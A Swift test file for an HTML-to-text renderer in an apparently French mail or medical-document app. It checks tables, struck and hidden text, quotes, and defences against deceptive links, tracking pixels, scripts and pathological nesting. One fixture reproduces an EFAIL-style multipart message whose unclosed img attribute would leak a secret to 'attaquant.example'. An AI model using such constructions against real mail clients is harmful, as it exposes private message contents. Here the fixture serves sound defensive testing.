import Domain
import Testing

@testable import Documents

/// HTML as a person reads it; nothing that matters vanishes (reliability.md M11–M13).
struct HTMLTextTests {
  private func text(_ html: String) -> String { HTMLText.render(html).text }

  @Test func `paragraphs, breaks and entities`() {
    let html = "<p>Bonjour&nbsp;Mme L&eacute;a,</p><p>1&nbsp;comprim&#233;<br>matin &amp; soir</p>"
    #expect(text(html) == "Bonjour Mme Léa,\n\n1 comprimé\nmatin & soir")
  }

  @Test func `blanks collapse, but not in pre`() {
    #expect(text("<div>a\n   b</div><div> c </div>") == "a b\nc")
    #expect(text("<pre>a\n  b\n\nc</pre>") == "a\n  b\n\nc")
  }

  @Test func `lists carry their numbers and nest`() {
    let html = "<ol start=3><li>un<li>deux<ul><li>a<li>b</ul></ol>"
    #expect(text(html) == "3. un\n4. deux\n\n   - a\n   - b")
  }

  @Test func `M13 a table keeps its columns, empty cells too`() {
    let html = """
      <table><tr><th>Médicament</th><th>Matin</th><th>Midi</th><th>Soir</th></tr>
      <tr><td><p>Amoxicilline</p></td><td>1</td><td></td><td>1</td></tr></table>
      """
    #expect(text(html) == "Médicament | Matin | Midi | Soir\nAmoxicilline | 1 |  | 1")
  }

  @Test func `a table made for layout reads as blocks`() {
    let long = String(repeating: "mot ", count: 200)
    let html = "<table><tr><td><table><tr><td><p>A</p><p>B</p></td></tr></table></td></tr></table>"
    #expect(text(html) == "A\n\nB")
    let wide = text("<table><tr><td>\(long)</td><td>fin</td></tr></table>")
    #expect(wide.hasSuffix("\n\nfin"))
  }

  @Test func `M13 struck words are marked on every line`() {
    #expect(text("<p>prendre <s>2</s> 1 comprimé</p>") == "prendre ~2~ 1 comprimé")
    #expect(
      text("<span style='text-decoration: line-through'>arrêter</span> continuer")
        == "~arrêter~ continuer")
    #expect(text("<del><p>un</p><p>deux</p></del>trois") == "~un~\n\n~deux~\n\ntrois")
  }

  @Test func `M13 hidden words are marked, hidden nothing is nothing`() {
    #expect(
      text("<p>Dose <span style='display:none'>ne pas donner</span> habituelle</p>")
        == "Dose [masqué : ne pas donner] habituelle")
    #expect(text("<div style='display:none'>&zwnj;&nbsp;&zwnj;</div><p>Bonjour</p>") == "Bonjour")
    // Templates set a size of zero around visible text.
    #expect(text("<td style='font-size:0px'><div>Bonjour</div></td>") == "Bonjour")
  }

  @Test func `M13 an exponent never joins its number`() {
    #expect(
      text("10<sup>6</sup> UI, 1<sup>er</sup> jour, H<sub>2</sub>O") == "10^6 UI, 1er jour, H2O")
  }

  @Test func `M13 ticked boxes say so`() {
    let html = "<input type=checkbox checked> urgent <input type=checkbox> renouvelable"
    #expect(text(html) == "[x] urgent [ ] renouvelable")
  }

  @Test func `M11 links show their true target`() {
    let html = """
      <a href="https://mechant.example/x">https://ameli.fr</a> et
      <a href="https://b.example/">https://b.example</a>
      """
    #expect(
      text(html) == "https://ameli.fr [1] et https://b.example\n\n[1] https://mechant.example/x")
  }

  @Test func `M11 pictures are words, dots are nothing, scripts and styles are gone`() {
    let html = """
      <style>p{color:red}</style><script>alert("x")</script><title>t</title>
      <img src="https://t.example/p.gif" width=1 height=1><img src=cid:a alt="Logo  du CHU">
      """
    #expect(text(html) == "[image : Logo du CHU]")
  }

  @Test func `quotes are quoted, twice when nested`() {
    let html =
      "<p>Oui.</p><blockquote><p>Peut-on ?</p><blockquote>Bonjour</blockquote></blockquote>"
    #expect(text(html) == "Oui.\n\n> Peut-on ?\n> \n>> Bonjour")
  }

  @Test func `broken HTML still reads`() {
    #expect(text("<p>un<b>deux<table><tr><td>trois</p></i>") == "undeux\n\ntrois")
    #expect(text("a < b et c > d") == "a < b et c > d")
    #expect(text("") == "")
  }

  @Test func `M12 an unclosed attribute swallows no other part`() throws {
    // EFAIL: the first HTML part opens an attribute that the third would close.
    let raw = mail(
      "Content-Type: multipart/mixed; boundary=b", "", "--b", "Content-Type: text/html", "",
      "<p>avant</p><img src=\"https://attaquant.example/?", "--b", "Content-Type: text/plain", "",
      "le secret", "--b", "Content-Type: text/html", "", "\"><p>après</p>", "--b--", "")
    let message = MessageDecoding.decode(raw)
    #expect(message.text.contains("le secret"))
    #expect(message.text.contains("avant") && message.text.contains("après"))
    #expect(!message.text.contains("attaquant"))
  }

  @Test func `M05 deep HTML ends, and indents only so far`() {
    let deep = String(repeating: "<div><blockquote>", count: 5_000) + "fond"
    #expect(text(deep) == String(repeating: ">", count: 31) + " fond")
  }

  @Test func `M05 tangled HTML is stopped, and its words are kept`() {
    // Each unmatched end tag walks over all open elements.
    let tangled =
      String(repeating: "<span>", count: 30_000) + "milieu"
      + String(repeating: "</b>", count: 60_000) + "fin"
    let rendered = HTMLText.render(tangled, milliseconds: 200)
    #expect(rendered.text.contains("milieu") && rendered.text.contains("fin"))
    #expect(rendered.defects.map(\.code) == ["html.stopped"])
  }
}
